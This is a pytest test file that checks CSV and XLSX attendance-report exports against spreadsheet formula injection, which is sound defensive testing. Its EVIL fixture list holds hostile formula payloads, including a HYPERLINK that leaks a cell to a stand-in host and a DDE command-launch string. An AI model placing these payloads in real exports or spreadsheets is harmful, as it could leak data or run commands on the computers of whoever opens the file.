"""CSV formula injection (issue 14, finding 7): names, groups and session names that a
spreadsheet would run as a formula are written as text to CSV reports; XLSX cells stay
typed strings."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest

from desktop_app.attendance import reports
from desktop_app.attendance.reports.csv import neutralise
from desktop_app.storage.repositories import Events, People, Sessions

TZ = dt.UTC
DAY = dt.date(2026, 3, 2)
EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def evil_db(sdb):  # type: ignore[no-untyped-def]
    def fill(s):  # type: ignore[no-untyped-def]
        at = dt.datetime(2026, 3, 2, 8, 0, tzinfo=dt.UTC)
        sid = (
            Sessions(s)
            .add(
                "=1+2",
                at - dt.timedelta(minutes=5),
                ends_at=at + dt.timedelta(hours=4),
                group_name="@grp",
            )
            .id
        )
        for i, name in enumerate(EVIL):
            p = People(s).add(name, external_id=f"+{i}", group_name="@grp")
            Events(s).add(
                p.id, "check_in", at + dt.timedelta(minutes=i), source="camera", session_id=sid
            )

    sdb.run(fill)
    return sdb


def _cells(path: Path) -> list[str]:
    text = path.read_text("utf-8-sig")
    return [c for row in csv.reader(text.splitlines(keepends=True)) for c in row]


def test_formula_cells_are_neutralised_in_every_csv_view(evil_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    data = reports.build_report(evil_db, TZ, DAY, DAY)
    paths = reports.export(data, "csv", tmp_path / "r.csv")
    paths += reports.export(data, "csv", tmp_path / "one.csv", one_file=True)
    for path in paths:
        cells = _cells(path)
        dangerous = [
            c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-")
        ]
        assert dangerous == [], f"{path.name}: {dangerous}"
    events = _cells(paths[2])
    for name in EVIL:  # (People.add strips the leading tab / CR of a name)
        assert "'" + name.strip() in events  # as typed, behind the quote a spreadsheet hides
    assert "'@grp" in events and "'+0" in events


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise("Ana Lima") == "Ana Lima"
    assert neutralise("-") == "-"  # an empty-cell placeholder, not a formula
    assert neutralise("O'Brien") == "O'Brien"
    assert neutralise("=1") == "'=1"
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1"


def test_xlsx_keeps_the_text_as_typed_strings(evil_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    data = reports.build_report(evil_db, TZ, DAY, DAY)
    [path] = reports.export(data, "xlsx", tmp_path / "r.xlsx")
    log = load_workbook(path)["Event log"]
    names = {c.value for c in log["C"][1:]}
    assert {n.strip() for n in EVIL} <= names
    assert all(c.data_type == "s" for c in log["C"][1:])  # strings, never formulas
